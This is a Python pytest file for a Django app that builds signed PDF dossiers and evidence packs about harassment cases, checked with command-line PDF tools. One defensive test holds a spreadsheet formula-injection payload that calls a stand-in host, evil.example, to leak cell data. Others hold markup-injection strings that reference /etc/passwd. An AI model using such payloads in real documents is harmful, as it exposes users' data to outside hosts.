"""The dossier as its reader gets it, checked with the real PDF tools: qpdf, pdftotext, pdfsig, pdfinfo, pdfimages.

Each test compiles in-process through the task body (claim, compile, sign, pack, store), minus the broker.
"""

import csv
import datetime as dt
import hashlib
import io
import json
import re
import shutil
import subprocess
import zipfile
import zoneinfo
from pathlib import Path

import pytest
from django.core.management import call_command
from django.utils import timezone

from dossiers.models import Dossier
from dossiers.tasks import compile_dossier
from incidents.models import Case, Evidence
from incidents.services import cases as case_services
from incidents.services import evidence as evidence_services
from incidents.services import parties as party_services
from incidents.services import references as reference_services
from tests.factories import log_incident, png_bytes, upload
from vault import store

pytestmark = pytest.mark.django_db

LONDON = zoneinfo.ZoneInfo("Europe/London")
LETTER = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n" + b"letter from the council " * 40
NOTE = b"Notes written on the day of the visit.\nTwo officers, 10 minutes.\n"
LOOK_DIR = Path("/tmp/dossier-look")
OPTIONS = {"audience": "police", "date_from": None, "date_to": None, "photos": "inline", "redact": False}


def compile_now(case, user, **options) -> Dossier:
    dossier = Dossier.objects.create(case=case, requested_by=user, options={**OPTIONS, **options})
    result = compile_dossier(dossier.pk)
    dossier.refresh_from_db()
    assert (result, dossier.status) == ("done", Dossier.Status.DONE), dossier.error
    return dossier


def pdf_path(dossier: Dossier, tmp_path: Path) -> Path:
    folder = tmp_path / "out"
    folder.mkdir(exist_ok=True)
    path = folder / f"dossier-{dossier.pk}.pdf"
    path.write_bytes(store.read_all(dossier.case, dossier.file_name))
    return path


def run(*args) -> subprocess.CompletedProcess:
    return subprocess.run([str(a) for a in args], capture_output=True, text=True, timeout=120, check=False)


def pdf_text(path: Path, *, layout: bool = False) -> str:
    result = run("pdftotext", *(["-layout"] if layout else []), path, "-")
    assert result.returncode == 0, result.stderr
    return result.stdout


def flat(text: str) -> str:
    """Every run of whitespace as one space: paragraph wrapping does not matter."""
    return " ".join(text.split())


def image_count(path: Path) -> int:
    result = run("pdfimages", "-list", path)
    assert result.returncode == 0, result.stderr
    return len([line for line in result.stdout.splitlines()[2:] if line.strip()])


def at(hour: int, minute: int, *day: int) -> dt.datetime:
    return dt.datetime(*day, hour, minute, tzinfo=LONDON)


@pytest.fixture
def rich(case, owner, editor):
    """A case with incidents logged out of date order, exhibits of several kinds, a suspect and a reference."""
    now = timezone.now()
    suspect = party_services.party_create(
        user=owner, case=case, kind="suspect", name="troll_account_99", handles="@troll99"
    )
    welfare = log_incident(
        case,
        owner,
        kind="police_contact",
        title="Welfare check by two officers",
        occurred_at=now - dt.timedelta(days=20),
        narrative="Two officers came for a welfare check after an anonymous call.",
        parties=[suspect],
    )
    forum = log_incident(
        case,
        editor,
        title="Forum thread about our baby",
        occurred_at=now - dt.timedelta(days=60),
        narrative="A thread claimed our baby was neglected.",
        parties=[suspect],
    )
    phone = log_incident(
        case,
        owner,
        kind="referral_social_services",
        title="Social worker phoned about a referral",
        occurred_at=now - dt.timedelta(days=45),
        narrative="A social worker called about an anonymous referral.",
        impact="We could not sleep.",
    )
    reference_services.reference_create(
        user=owner, case=case, kind="social_services", number="CS-2026-0412", incidents=[phone]
    )
    originals = {"photo.png": png_bytes(1200, 900), "letter.pdf": LETTER, "note.txt": NOTE}
    attach = evidence_services.evidence_attach
    photo = attach(
        user=owner,
        case=case,
        kind="screenshot",
        description="Screenshot of the thread",
        uploaded_file=upload("photo.png", originals["photo.png"]),
        incidents=[forum],
    ).evidence
    letter = attach(
        user=owner,
        case=case,
        kind="document",
        description="Letter from the council",
        uploaded_file=upload("letter.pdf", LETTER),
        incidents=[phone],
    ).evidence
    note = attach(
        user=editor,
        case=case,
        kind="other",
        description="Our notes of the visit",
        uploaded_file=upload("note.txt", NOTE),
        incidents=[welfare],
    ).evidence
    link = attach(
        user=owner, case=case, kind="web_page", description="The thread itself", source_url="https://forum.example/t/1"
    ).evidence
    return {
        "titles_in_date_order": [forum.title, phone.title, welfare.title],
        "exhibits": [photo, letter, note, link],
        "originals": {photo.mark: originals["photo.png"], letter.mark: LETTER, note.mark: NOTE},
    }


def test_pdf_passes_qpdf_check(case, owner, rich, tmp_path):
    path = pdf_path(compile_now(case, owner), tmp_path)
    result = run("qpdf", "--check", path)
    assert result.returncode == 0, result.stdout + result.stderr
    assert "No syntax or stream encoding errors" in result.stdout


def test_text_has_every_incident_in_date_order_every_exhibit_and_the_code(case, owner, rich, tmp_path):
    dossier = compile_now(case, owner)
    text = pdf_text(pdf_path(dossier, tmp_path))
    chronology = text[text.index("Chronology\n") : text.index("Index of people and organisations")]
    positions = [chronology.find(title) for title in rich["titles_in_date_order"]]
    assert -1 not in positions, positions
    assert positions == sorted(positions), "incidents are not printed in date order"
    for number, title in enumerate(rich["titles_in_date_order"], start=1):
        assert re.search(
            rf"\b{number}\. \w{{3}} \d+ \w{{3}} \d{{4}}, \d\d:\d\d \w+ — {re.escape(title)}", flat(chronology)
        )
    exhibit_list = text[text.index("Exhibit list") :]
    for exhibit in rich["exhibits"]:
        assert exhibit.mark in exhibit_list
        if exhibit.has_file:
            # The fingerprint is printed whole, on one line: it can be read off, copied and compared.
            assert f"SHA-256 {exhibit.sha256}" in exhibit_list
    assert "SHA-256 (link only, no file)" in exhibit_list
    assert dossier.verification_code in text
    assert dossier.pages > 1
    assert "Page 1 of " + str(dossier.pages) in text
    assert f"Page {dossier.pages} of {dossier.pages}" in text
    assert f"Page {dossier.pages + 1} of" not in text
    assert set(re.findall(r"Page \d+ of (\d+)", text)) == {str(dossier.pages)}


def test_a_long_exhibit_list_keeps_each_fingerprint_with_its_exhibit_across_pages(case, owner, tmp_path):
    incident = log_incident(case, owner, title="Many messages")
    for n in range(1, 61):
        evidence_services.evidence_attach(
            user=owner,
            case=case,
            kind="other",
            description=f"Message number {n}",
            uploaded_file=upload(f"m{n}.txt", f"Message {n}: you will be reported.\n".encode()),
            incidents=[incident],
        )
    dossier = compile_now(case, owner, photos="listed")
    text = pdf_text(pdf_path(dossier, tmp_path), layout=True)
    pages = text.split("\f")
    first = next(n for n, page in enumerate(pages) if "Exhibit list" in page)
    last = next(n for n, page in enumerate(pages) if "Statement of record" in page)
    assert last - first >= 2, "the list should run over several pages for this test"
    seen = []
    for number in range(first, last):
        for line in pages[number].splitlines():
            words = line.split()
            if words and re.fullmatch(r"AJ/\d+", words[0]):
                seen.append(("mark", words[0], number))
            elif words[:1] == ["SHA-256"]:
                seen.append(("hash", words[1], number))
    expected = []
    for item in Evidence.objects.filter(case=case).order_by("number"):
        expected += [("mark", item.mark), ("hash", item.sha256)]
    assert [(kind, value) for kind, value, _ in seen] == expected
    for (_, _, mark_page), (_, _, hash_page) in zip(seen[::2], seen[1::2], strict=True):
        assert mark_page == hash_page


def test_signature_is_valid(case, owner, rich, tmp_path):
    result = run("pdfsig", pdf_path(compile_now(case, owner), tmp_path))
    assert result.returncode == 0, result.stdout + result.stderr
    assert "Signature is Valid." in result.stdout
    assert "Total document signed" in result.stdout
    assert "Signer Certificate Common Name: Test signing" in result.stdout


def test_altered_copy_no_longer_has_a_valid_signature(case, owner, rich, tmp_path):
    path = pdf_path(compile_now(case, owner), tmp_path)
    data = path.read_bytes()
    assert b"(Referral Tracker)" in data  # the document's Creator, in a signed byte range
    path.write_bytes(data.replace(b"(Referral Tracker)", b"(Referral Trackex)", 1))
    result = run("pdfsig", path)
    assert "Signature is Valid." not in result.stdout
    assert "Digest Mismatch" in result.stdout


def test_row_records_the_fingerprint_size_and_page_count_of_the_pdf(case, owner, rich, tmp_path):
    dossier = compile_now(case, owner)
    path = pdf_path(dossier, tmp_path)
    data = path.read_bytes()
    assert data.startswith(b"%PDF-")
    assert dossier.sha256 == hashlib.sha256(data).hexdigest()
    assert dossier.size == len(data)
    info = run("pdfinfo", path)
    assert re.search(r"^Pages:\s+(\d+)$", info.stdout, re.M).group(1) == str(dossier.pages)
    assert run("qpdf", "--show-npages", path).stdout.strip() == str(dossier.pages)
    assert f"Dossier {dossier.verification_code}" in info.stdout  # the document title


def test_pack_holds_the_pdf_every_original_by_mark_and_manifests_that_match(case, owner, rich, tmp_path):
    dossier = compile_now(case, owner)
    pack = store.read_all(case, dossier.pack_name)
    assert dossier.pack_sha256 == hashlib.sha256(pack).hexdigest()
    assert dossier.pack_size == len(pack)
    archive = zipfile.ZipFile(io.BytesIO(pack))
    assert archive.testzip() is None
    pdf_name = f"dossier-{dossier.verification_code}.pdf"
    assert sorted(archive.namelist()) == sorted(
        [pdf_name, "exhibits/AJ-1.png", "exhibits/AJ-2.pdf", "exhibits/AJ-3.txt", "manifest.csv", "manifest.json"]
    )
    assert hashlib.sha256(archive.read(pdf_name)).hexdigest() == dossier.sha256

    manifest = json.loads(archive.read("manifest.json"))
    assert manifest["verification_code"] == dossier.verification_code
    rows = manifest["exhibits"]
    csv_rows = list(csv.DictReader(io.StringIO(archive.read("manifest.csv").decode())))
    assert [row["mark"] for row in rows] == [row["mark"] for row in csv_rows] == ["AJ/1", "AJ/2", "AJ/3", "AJ/4"]
    evidence = {e.mark: e for e in Evidence.objects.filter(case=case)}
    for row, csv_row in zip(rows, csv_rows, strict=True):
        assert {key: str(value) for key, value in row.items()} == csv_row
        item = evidence[row["mark"]]
        assert row["sha256"] == item.sha256
        if item.has_file:
            member = archive.read(row["file"])
            assert hashlib.sha256(member).hexdigest() == row["sha256"] == item.sha256
            assert member == rich["originals"][row["mark"]]  # byte for byte what was uploaded
            assert row["size"] == len(member)
        else:
            assert (row["file"], row["sha256"], row["source_url"]) == ("", "", "https://forum.example/t/1")
    assert {row["mark"]: row["incidents"] for row in rows} == {"AJ/1": "1", "AJ/2": "2", "AJ/3": "3", "AJ/4": ""}


def test_manifest_csv_shows_formula_like_text_as_text_and_json_keeps_it_as_typed(case, owner):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    evidence_services.evidence_attach(
        user=owner,
        case=case,
        kind="letter",
        description="Letter",
        obtained_from=formula,
        uploaded_file=upload("n.txt", NOTE),
    )
    dossier = compile_now(case, owner)
    archive = zipfile.ZipFile(io.BytesIO(store.read_all(case, dossier.pack_name)))
    [csv_row] = csv.DictReader(io.StringIO(archive.read("manifest.csv").decode()))
    [json_row] = json.loads(archive.read("manifest.json"))["exhibits"]
    assert csv_row["obtained"] == "'" + formula
    assert json_row["obtained"] == formula


def test_a_row_taller_than_a_page_flows_on_instead_of_failing_the_dossier():
    from reportlab.platypus import SimpleDocTemplate

    from dossiers import pdf

    pdf.register_fonts()
    st = pdf.styles()
    long_text = " ".join(f"Changed (version {n}) by Alex Jones (audit event {n})." for n in range(1, 700))
    out = io.BytesIO()
    doc = SimpleDocTemplate(out)
    height = doc.height - 12
    rows = [
        pdf.Row(
            [[(pdf._Paragraph("1. A short one", st["body"]), 100), (pdf._Paragraph("Logged", st["small"]), 300)]],
            page_height=height,
        ),
        pdf.Row(
            [[(pdf._Paragraph("2. Changed a lot", st["body"]), 100), (pdf._Paragraph(long_text, st["small"]), 300)]],
            page_height=height,
        ),
    ]
    doc.build(rows)
    text = subprocess.run(
        ["pdftotext", "-", "-"], input=out.getvalue(), capture_output=True, check=True
    ).stdout.decode()
    assert doc.page >= 2
    assert "1. A short one" in text and "2. Changed a lot" in text
    assert "(version 699)" in text  # nothing of the long row was lost


@pytest.fixture
def about_ella(owner):
    case = case_services.case_create(user=owner, title="Reports about Ella and our family")
    case_services.child_add(user=owner, case=case, name="Ella May Jones")
    incident = log_incident(
        case,
        owner,
        title="Ella's nursery named online",
        narrative="A post named Ella May Jones and said ella was at risk. ELLA saw it.",
        impact="Ella May Jones could not sleep.",
        outcome="Ella changed nursery.",
    )
    evidence_services.evidence_attach(
        user=owner,
        case=case,
        kind="screenshot",
        description="Screenshot naming Ella May Jones",
        uploaded_file=upload("s.png", png_bytes()),
        incidents=[incident],
    )
    return case


def test_redaction_replaces_childrens_names_with_initials_everywhere(about_ella, owner, tmp_path):
    assert about_ella.children.get().initials == "EMJ"
    text = pdf_text(pdf_path(compile_now(about_ella, owner, redact=True), tmp_path))
    assert "ella" not in text.lower()
    assert "may jones" not in flat(text).lower()
    assert "EMJ" in text
    assert "EMJ's nursery named online" in text
    assert "Children's names are shown as their initials." in flat(text)


def test_without_redaction_the_names_are_printed(about_ella, owner, tmp_path):
    text = flat(pdf_text(pdf_path(compile_now(about_ella, owner, redact=False), tmp_path)))
    assert "Ella May Jones" in text
    assert "Ella's nursery named online" in text
    assert "EMJ" not in text


def test_markup_typed_by_users_is_printed_as_text(case, owner, tmp_path):
    markup = '<img src="/etc/passwd"/> <font size="40">big</font> &amp; <b>'
    party = party_services.party_create(user=owner, case=case, kind="suspect", name='<a href="x">troll</a>')
    incident = log_incident(case, owner, title="<b>Bold</b> & <i>title", narrative=markup, parties=[party])
    evidence_services.evidence_attach(
        user=owner,
        case=case,
        kind="screenshot",
        description='<font color="red">shot</font>',
        uploaded_file=upload("s.png", png_bytes()),
        incidents=[incident],
    )
    text = flat(pdf_text(pdf_path(compile_now(case, owner), tmp_path)))
    assert '<img src="/etc/passwd"/>' in text
    assert markup in text
    assert "<b>Bold</b> & <i>title" in text
    assert '<a href="x">troll</a>' in text
    assert '<font color="red">shot</font>' in text


@pytest.mark.parametrize(("photos", "images"), [("inline", 1), ("listed", 0)])
def test_photos_inline_put_the_image_on_a_page_and_listed_do_not(case, owner, tmp_path, photos, images):
    incident = log_incident(case, owner, title="The screenshot")
    evidence_services.evidence_attach(
        user=owner,
        case=case,
        kind="photo",
        description="Photo of the letter",
        uploaded_file=upload("p.png", png_bytes(1200, 900)),
        incidents=[incident],
    )
    path = pdf_path(compile_now(case, owner, photos=photos), tmp_path)
    assert image_count(path) == images
    assert ("Photographs and screenshots" in pdf_text(path)) is bool(images)


def test_date_range_keeps_only_the_incidents_inside_it(case, owner, tmp_path):
    # Boundaries in the case's zone (BST in June): 00:30 on 1 July is 23:30 UTC on 30 June.
    for title, when in [
        ("March visit", at(12, 0, 2024, 3, 10)),
        ("Just before the start", at(23, 30, 2024, 5, 31)),
        ("First minute inside", at(0, 30, 2024, 6, 1)),
        ("Last minute inside", at(23, 30, 2024, 6, 30)),
        ("Just after the end", at(0, 30, 2024, 7, 1)),
        ("September letter", at(12, 0, 2024, 9, 20)),
    ]:
        log_incident(case, owner, title=title, occurred_at=when)
    text = flat(pdf_text(pdf_path(compile_now(case, owner, date_from="2024-06-01", date_to="2024-06-30"), tmp_path)))
    assert "1. Sat 1 Jun 2024, 00:30 BST — First minute inside" in text
    assert "2. Sun 30 Jun 2024, 23:30 BST — Last minute inside" in text
    for title in ("March visit", "Just before the start", "Just after the end", "September letter"):
        assert title not in text
    assert "Period covered: 1 June 2024 to 30 June 2024" in text
    assert "Incidents: 2" in text


def test_withdrawn_exhibit_is_listed_as_withdrawn_and_its_photo_not_printed(case, owner, tmp_path):
    incident = log_incident(case, owner, title="The screenshot")
    kept = evidence_services.evidence_attach(
        user=owner, case=case, kind="other", description="Our notes", uploaded_file=upload("n.txt", NOTE)
    ).evidence
    wrong = evidence_services.evidence_attach(
        user=owner,
        case=case,
        kind="screenshot",
        description="Screenshot of another family's post",
        uploaded_file=upload("w.png", png_bytes(800, 600)),
        incidents=[incident],
    ).evidence
    evidence_services.evidence_withdraw(user=owner, evidence=wrong, reason="Wrong screenshot")
    path = pdf_path(compile_now(case, owner, photos="inline"), tmp_path)
    exhibit_list = pdf_text(path, layout=True).split("Exhibit list", 1)[1]
    wrong_line = next(line for line in exhibit_list.splitlines() if wrong.mark in line)
    kept_line = next(line for line in exhibit_list.splitlines() if kept.mark in line)
    assert "WITHDRAWN: Wrong screenshot" in wrong_line
    assert "WITHDRAWN" not in kept_line
    assert exhibit_list.count("WITHDRAWN") == 1
    assert f"SHA-256 {wrong.sha256}" in exhibit_list  # still listed, with its fingerprint
    assert image_count(path) == 0


def test_render_a_demo_like_dossier_to_png_for_a_look(owner, tmp_path):
    """Not a check of the looks: it leaves the pages in /tmp/dossier-look/ for a person to see."""
    call_command("demo_data", stdout=io.StringIO())
    case = Case.objects.get(title__startswith="Demo:")
    parent = case.created_by
    forum, phoned, police = case.incidents.order_by("occurred_at")
    attach = evidence_services.evidence_attach
    attach(
        user=parent,
        case=case,
        kind="screenshot",
        description="Screenshot of the forum thread naming Ella's nursery",
        uploaded_file=upload("thread.png", png_bytes(1200, 900, (70, 110, 160))),
        obtained_at=timezone.localdate() - dt.timedelta(days=59),
        obtained_from="Gossip forum",
        incidents=[forum],
    )
    attach(
        user=parent,
        case=case,
        kind="document",
        description="Letter from Anytown Children's Services",
        uploaded_file=upload("letter.pdf", LETTER),
        incidents=[phoned],
    )
    wrong = attach(
        user=parent,
        case=case,
        kind="photo",
        description="Photo of the officers' card",
        uploaded_file=upload("card.png", png_bytes(600, 900, (180, 160, 60))),
        incidents=[police],
    ).evidence
    evidence_services.evidence_withdraw(user=parent, evidence=wrong, reason="The wrong card was photographed.")
    attach(user=parent, case=case, kind="web_page", description="The thread", source_url="https://forum.example/1")
    path = pdf_path(compile_now(case, parent, redact=True, photos="inline"), tmp_path)
    if LOOK_DIR.exists():
        shutil.rmtree(LOOK_DIR)
    LOOK_DIR.mkdir(parents=True)
    shutil.copy(path, LOOK_DIR / "dossier.pdf")
    result = run("pdftoppm", "-r", "80", "-png", path, LOOK_DIR / "page")
    assert result.returncode == 0, result.stderr
    assert len(list(LOOK_DIR.glob("page-*.png"))) == Dossier.objects.get(case=case).pages


def test_plain_paragraphs_keep_line_breaks_and_print_markup_and_entities_as_typed():
    from reportlab.platypus import SimpleDocTemplate

    from dossiers import pdf

    pdf.register_fonts()
    body = pdf.styles()["body"]
    typed = 'First line\nsecond   line <b>not bold</b> &amp; <img src="/etc/passwd"/>\n\nlast'
    out = io.BytesIO()
    SimpleDocTemplate(out).build([pdf.plain(typed, body), pdf.plain("", body)])
    text = subprocess.run(["pdftotext", "-", "-"], input=out.getvalue(), capture_output=True, check=True).stdout
    lines = [line for line in text.decode().splitlines() if line.strip()]
    assert lines[:3] == ["First line", 'second line <b>not bold</b> &amp; <img src="/etc/passwd"/>', "last"]
